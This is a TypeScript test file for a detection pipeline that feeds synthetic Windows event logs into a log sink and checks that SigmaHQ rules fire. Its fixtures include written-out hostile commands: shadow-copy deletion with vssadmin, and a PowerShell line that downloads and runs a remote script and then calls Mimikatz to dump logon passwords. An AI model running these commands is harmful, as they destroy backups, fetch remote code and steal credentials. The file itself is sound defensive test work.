// Windows event logs in every forwarder shape (evtx as JSON from xmltodict and evtx_dump, Winlogbeat, NXLog im_msvistalog,
// Fluent Bit winevtlog, flat Provider_Name) through POST /log_sink: each Sigma category and
// channel service they map to makes a SigmaHQ rule fire; Security 4688/5156 fill the process
// and network tables; malformed events in a recognised shape are stored and never stop detection.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeSigmaFamily, type SigmaCase } from '../helpers/sigma-cases.js';
import {
  SYSMON,
  SYSMON_PROVIDER,
  SECURITY_PROVIDER,
  PS_OPERATIONAL,
  evtx,
  evtxDump,
  winlogbeat,
  nxlog,
  fluentBit,
  flat,
} from '../helpers/windows-shapes.js';

const cases: SigmaCase[] = [
  {
    name: 'evtx JSON, Security 4688: vssadmin deletes the shadow copies',
    record: evtx('Security', SECURITY_PROVIDER, 4688, {
      SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7a1',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\vssadmin.exe',
      TokenElevationType: '%%1937',
      ProcessId: '0x1f40',
      CommandLine: 'vssadmin.exe delete shadows /all /quiet',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: '0x0',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      MandatoryLabel: 'S-1-16-12288',
    }),
    rule: 'windows/process_creation/proc_creation_win_susp_shadow_copies_deletion.yml',
  },
  {
    name: 'Winlogbeat, Security 5156: certutil connects out on 443',
    record: winlogbeat('Security', SECURITY_PROVIDER, 5156, {
      ProcessID: '6120',
      Application: '\\device\\harddiskvolume3\\windows\\system32\\certutil.exe',
      Direction: '%%14593',
      SourceAddress: '10.20.30.42',
      SourcePort: '50514',
      DestAddress: '203.0.113.50',
      DestPort: '443',
      Protocol: '6',
      FilterRTID: '70212',
      LayerName: '%%14611',
      LayerRTID: '48',
    }),
    rule: 'windows/network_connection/net_connection_win_certutil_initiated_connection.yml',
  },
  {
    name: 'NXLog, Security 1102: the audit log was cleared',
    record: nxlog('Security', 'Microsoft-Windows-Eventlog', 1102, {
      SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7a1',
    }),
    rule: 'windows/builtin/security/win_security_audit_log_cleared.yml',
  },
  {
    name: 'Winlogbeat, Security 4720: a user account was created',
    record: winlogbeat('Security', SECURITY_PROVIDER, 4720, {
      TargetUserName: 'svc-backup2',
      TargetDomainName: 'CORP',
      TargetSid: 'S-1-5-21-1004336348-1177238915-682003330-2110',
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      SamAccountName: 'svc-backup2',
    }),
    rule: 'windows/builtin/security/win_security_user_creation.yml',
  },
  {
    name: 'Fluent Bit, Sysmon 13: a Defender exclusion is set',
    record: fluentBit(SYSMON, SYSMON_PROVIDER, 13, [
      '-',
      'SetValue',
      '2026-11-26 10:15:00.123',
      '{5770385f-c22a-6546-2b00-000000001a00}',
      '6412',
      'C:\\Windows\\System32\\reg.exe',
      'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public',
      'DWORD (0x00000000)',
      'NT AUTHORITY\\SYSTEM',
    ]),
    rule: 'windows/registry/registry_set/registry_set_defender_exclusions.yml',
  },
  {
    name: 'flat Provider_Name, System 7045: the PAExec service is installed',
    record: flat('System', 'Service Control Manager', 7045, {
      ServiceName: 'PAExec-4312-WS-017',
      ImagePath: 'C:\\WINDOWS\\PAExec-4312-WS-017.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
    rule: 'windows/builtin/system/service_control_manager/win_system_service_install_paexec.yml',
  },
  {
    name: 'evtx_dump JSON, System 7045: the PsExec service is installed',
    record: evtxDump('System', 'Service Control Manager', 7045, {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
    rule: 'windows/builtin/system/service_control_manager/win_system_service_install_sysinternals_psexec.yml',
  },
  {
    name: 'evtx_dump JSON, MSSQL 15457: xp_cmdshell is enabled (unnamed Data)',
    record: evtxDump('Application', 'MSSQLSERVER', 15457, {
      unnamed: ['xp_cmdshell', '0', '1'],
      binary: '613C00000A000000',
    }),
    rule: 'windows/builtin/application/mssqlserver/win_mssql_xp_cmdshell_change.yml',
  },
  {
    name: 'evtx JSON, PowerShell 4104: a script block runs Invoke-Mimikatz',
    record: evtx(PS_OPERATIONAL, 'Microsoft-Windows-PowerShell', 4104, {
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText:
        'IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\'); Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\'',
      ScriptBlockId: '9f1c1c38-5b0e-4f4f-9d7e-2d0c7e3f5a11',
      Path: '',
    }),
    rule: 'windows/powershell/powershell_script/posh_ps_potential_invoke_mimikatz.yml',
  },
  {
    name: 'Winlogbeat, PowerShell 4103: module logging of Get-Clipboard',
    record: winlogbeat(PS_OPERATIONAL, 'Microsoft-Windows-PowerShell', 4103, {
      ContextInfo:
        '        Severity = Informational\n        Host Name = ConsoleHost\n        Command Name = Get-Clipboard\n',
      UserData: '',
      Payload: 'CommandInvocation(Get-Clipboard): "Get-Clipboard"\n',
    }),
    rule: 'windows/powershell/powershell_module/posh_pm_get_clipboard.yml',
  },
  {
    name: 'evtx JSON, Windows PowerShell 400: a remote session engine starts (unnamed Data)',
    record: evtx('Windows PowerShell', 'PowerShell', 400, [
      'Available',
      'None',
      '\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ServerRemoteHost\n\tHostVersion=1.0.0.0\n\tHostId=4f3a\n\tHostApplication=C:\\Windows\\system32\\wsmprovhost.exe -Embedding\n\tEngineVersion=5.1.19041.1\n',
    ]),
    rule: 'windows/powershell/powershell_classic/posh_pc_remote_powershell_session.yml',
  },
  {
    name: 'NXLog, Sysmon 7: ShellChromeAPI.dll is loaded',
    record: nxlog(SYSMON, SYSMON_PROVIDER, 7, {
      Image: 'C:\\Windows\\System32\\DeviceEnroller.exe',
      ImageLoaded: 'C:\\Users\\alice\\AppData\\Local\\Temp\\ShellChromeAPI.dll',
      Signed: 'false',
      SignatureStatus: 'Unavailable',
      Hashes: 'SHA256=0E4A3C6B1D3F9E8A7B6C5D4E3F2A1B0C9D8E7F6A5B4C3D2E1F0A9B8C7D6E5F4A',
    }),
    rule: 'windows/image_load/image_load_side_load_shell_chrome_api.yml',
  },
  {
    name: 'Winlogbeat, Sysmon 22: a DNS query for ufile.io',
    record: winlogbeat(SYSMON, SYSMON_PROVIDER, 22, {
      QueryName: 'ufile.io',
      QueryStatus: '0',
      QueryResults: '::ffff:104.21.3.5;',
      Image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe',
      ProcessId: '7716',
    }),
    rule: 'windows/dns_query/dns_query_win_ufile_io_query.yml',
  },
  {
    name: 'flat, Sysmon 17: the RemCom named pipe is created',
    record: flat(SYSMON, SYSMON_PROVIDER, 17, {
      EventType: 'CreatePipe',
      PipeName: '\\RemCom_communicaton',
      Image: 'C:\\Windows\\RemComSvc.exe',
      ProcessId: '5524',
    }),
    rule: 'windows/pipe_created/pipe_created_pua_remcom_default_pipe.yml',
  },
  {
    name: 'evtx JSON, Sysmon 10: WerFault opens lsass with full access',
    record: evtx(SYSMON, SYSMON_PROVIDER, 10, {
      SourceProcessId: '3880',
      SourceImage: 'C:\\Windows\\System32\\WerFault.exe',
      TargetProcessId: '672',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1FFFFF',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
    }),
    rule: 'windows/process_access/proc_access_win_lsass_werfault.yml',
  },
  {
    name: 'NXLog, Sysmon 8: ttdinject creates a remote thread',
    record: nxlog(SYSMON, SYSMON_PROVIDER, 8, {
      SourceProcessId: '2212',
      SourceImage: 'C:\\Windows\\System32\\ttdinject.exe',
      TargetProcessId: '6100',
      TargetImage: 'C:\\Windows\\System32\\notepad.exe',
      StartAddress: '0x00007FF6C8A21000',
    }),
    rule: 'windows/create_remote_thread/create_remote_thread_win_ttdinjec.yml',
  },
  {
    name: 'Winlogbeat, Sysmon 6: a driver loads from a Temp folder',
    record: winlogbeat(SYSMON, SYSMON_PROVIDER, 6, {
      ImageLoaded: 'C:\\Users\\alice\\AppData\\Local\\Temp\\gdrv.sys',
      Hashes: 'SHA256=31F4CFB4C71DA44120752721103A16512444C13C2AC2D857A7E6F13CB679B427',
      Signed: 'true',
      Signature: 'Giga-Byte Technology',
      SignatureStatus: 'Expired',
    }),
    rule: 'windows/driver_load/driver_load_win_susp_temp_use.yml',
  },
  {
    name: 'evtx JSON, Sysmon 20: a WMI event consumer is registered',
    record: evtx(SYSMON, SYSMON_PROVIDER, 20, {
      EventType: 'WmiConsumerEvent',
      Operation: 'Created',
      User: 'CORP\\alice',
      Name: '"Updater"',
      Type: 'Command Line',
      Destination: '"C:\\Users\\Public\\upd.exe"',
    }),
    rule: 'windows/wmi_event/sysmon_wmi_event_subscription.yml',
  },
  {
    name: 'Winlogbeat, Sysmon 11: ntds.dit is written',
    record: winlogbeat(SYSMON, SYSMON_PROVIDER, 11, {
      Image: 'C:\\Windows\\System32\\ntdsutil.exe',
      TargetFilename: 'C:\\Users\\Public\\ifm\\Active Directory\\ntds.dit',
      ProcessId: '5012',
    }),
    rule: 'windows/file/file_event/file_event_win_ntds_dit_creation.yml',
  },
  {
    name: 'NXLog, Task Scheduler 129: a task runs a program from Temp',
    record: nxlog('Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-TaskScheduler', 129, {
      TaskName: '\\Updater',
      Path: 'C:\\Windows\\Temp\\upd.exe',
      ProcessID: '7788',
      Priority: '16384',
    }),
    rule: 'windows/builtin/taskscheduler/win_taskscheduler_execution_from_susp_locations.yml',
  },
  {
    name: 'Winlogbeat, BITS client 3: bitsadmin creates a job',
    record: winlogbeat('Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 3, {
      jobTitle: 'update',
      jobId: '{5A5A2C4E-3E0E-4C9B-9C1B-0C9E6A1F2B3D}',
      jobOwner: 'CORP\\alice',
      processPath: 'C:\\Windows\\System32\\bitsadmin.exe',
      processId: '4432',
    }),
    rule: 'windows/builtin/bits_client/win_bits_client_new_job_via_bitsadmin.yml',
  },
  {
    name: 'evtx JSON, Defender 1116: a password dumper is detected (antivirus)',
    record: evtx('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', 1116, {
      'Product Name': 'Microsoft Defender Antivirus',
      'Detection ID': '{3C6D4E5F-1A2B-4C3D-8E9F-0A1B2C3D4E5F}',
      'Threat Name': 'HackTool:Win64/Mimikatz!pz',
      'Severity Name': 'High',
      'Category Name': 'Tool',
      Path: 'file:_C:\\Users\\alice\\Downloads\\mimikatz.exe',
      'Process Name': 'C:\\Windows\\explorer.exe',
    }),
    rule: 'category/antivirus/av_password_dumper.yml',
  },
];

/** Records in a recognised shape with missing or wrong parts: stored, normalised as far as possible. */
const malformed = [
  { winlog: { channel: 'Security', event_id: 'not-a-number', event_data: 'oops' } },
  { Event: { System: { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: { '#text': '1' } }, EventData: 7 } },
  { EventID: 4688, Channel: 'Security', NewProcessId: '0xZZ', ProcessId: null },
  { EventID: 3, SourceName: 'Microsoft-Windows-Sysmon', DestinationPort: 'eighty', Initiated: 42 },
  // Cut short by the forwarder: Winlogbeat's channel and id, nothing else.
  { winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: '1' } },
  // Sysmon process creation without its EventData.
  {
    Event: {
      System: {
        Provider: { '@Name': 'Microsoft-Windows-Sysmon' },
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
      },
    },
  },
];

describeSigmaFamily(
  'Windows event logs',
  cases,
  (context) => {
    test('malformed events in a recognised shape are stored beside the others', async () => {
      const db = context().server.sightline.database.db;
      const stored = await db.selectFrom('telemetry_records').select('record').execute();
      assert.equal(stored.length, cases.length + malformed.length);
    });

    test('Security 4688 and 5156 fill the process and network tables under Sysmon names', async () => {
      const db = context().server.sightline.database.db;
      const processes = await db.selectFrom('endpoint_process_events').selectAll().execute();
      const vssadmin = processes.find((row) => row.process_name === 'vssadmin.exe');
      assert.ok(vssadmin, `a process row for 4688; rows: ${processes.map((row) => row.process_name).join(', ')}`);
      assert.equal(vssadmin.source_format, 'windows_security');
      assert.equal(vssadmin.pid, 0x1a2c);
      assert.equal(vssadmin.parent_pid, 0x1f40);
      assert.equal(vssadmin.user_name, 'CORP\\alice');
      assert.equal(vssadmin.parent_process_name, 'cmd.exe');
      const connections = await db.selectFrom('network_process_events').selectAll().execute();
      const certutil = connections.find((row) => row.process_name === 'certutil.exe');
      assert.ok(certutil, 'a network row for 5156');
      assert.equal(certutil.destination_ip, '203.0.113.50');
      assert.equal(certutil.destination_port, 443);
      assert.equal(certutil.direction, 'outbound');
      assert.equal(certutil.protocol, 'tcp');
    });
  },
  malformed,
);
